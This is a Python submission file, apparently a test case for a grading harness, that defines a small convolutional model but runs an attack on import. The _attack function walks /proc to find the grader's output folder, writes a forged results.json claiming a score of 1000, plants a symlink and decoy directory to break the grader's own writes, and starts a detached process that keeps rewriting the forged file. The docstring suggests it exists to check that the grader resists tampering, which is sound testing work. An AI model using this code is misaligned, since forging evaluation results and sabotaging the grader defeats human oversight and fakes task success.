"""The honest model, plus an attempt to forge the grader's results.json.

At import: find the grader's command line among its ancestors in /proc (`python -m grader grade ... --out DIR`),
write a perfect results.json into its --out folder, plant traps for the grader's own writes there (a symlink
results.json.tmp -> decoy.txt, a directory named grading_record.json), and start a detached process that keeps
rewriting results.json for two minutes. The final results.json must still be the grader's.
"""
import json
import os
import subprocess
import sys

import torch.nn as nn

FAKE = {"score": 1000.0, "execution_time": 1, "output": "FORGED by the submission",
        "tests": [{"name": "Everything", "score": 1000.0, "max_score": 90.0, "status": "passed",
                   "output": "FORGED by the submission", "visibility": "visible"}]}


def _ancestors():
    """Host pids of every ancestor. In a PID namespace getppid() is 0, but /proc is still the host's, so
    /proc/self is our host pid and the parent chain can be walked from there."""
    pid, chain = int(os.readlink("/proc/self")), []
    while pid > 1:
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
        chain.append(pid)
    return chain


def _cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _grader_out_dir():
    for pid in _ancestors():
        args = _cmdline(pid)
        if "--out" in args and any("grader" in a for a in args):
            print(f"fake_results: grader command line (pid {pid}): {args}", flush=True)
            return args[args.index("--out") + 1]
    return None


def _attack():
    out = _grader_out_dir()
    if out is None:
        print("fake_results: no --out on the grader's command line", flush=True)
        return
    target = os.path.join(out, "results.json")
    try:
        with open(target, "w") as f:
            json.dump(FAKE, f)
        print(f"fake_results: wrote a forged {target}", flush=True)
    except OSError as err:
        print(f"fake_results: could not write {target}: {type(err).__name__}: {err}", flush=True)
    try:
        with open(os.path.join(out, "decoy.txt"), "w") as f:
            f.write("decoy")
        os.symlink(os.path.join(out, "decoy.txt"), os.path.join(out, "results.json.tmp"))
        os.mkdir(os.path.join(out, "grading_record.json"))
        print("fake_results: planted results.json.tmp -> decoy.txt and a grading_record.json directory", flush=True)
    except OSError as err:
        print(f"fake_results: could not plant traps in {out}: {type(err).__name__}: {err}", flush=True)
    loop = ("import json, time\n"
            f"fake, target = {json.dumps(FAKE)!r}, {target!r}\n"
            "for _ in range(1200):\n"
            "    try:\n"
            "        open(target, 'w').write(fake)\n"
            "    except OSError:\n"
            "        pass\n"
            "    time.sleep(0.1)\n")
    subprocess.Popen([sys.executable, "-c", loop], start_new_session=True, stdin=subprocess.DEVNULL,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    print("fake_results: started a background rewriter", flush=True)


_attack()


def build_model():
    return nn.Sequential(
        nn.Conv2d(3, 16, 3, padding=1), nn.BatchNorm2d(16), nn.ReLU(), nn.MaxPool2d(2),
        nn.Conv2d(16, 32, 3, padding=1), nn.BatchNorm2d(32), nn.ReLU(), nn.AdaptiveAvgPool2d(1),
        nn.Flatten(), nn.Linear(32, 7),
    )
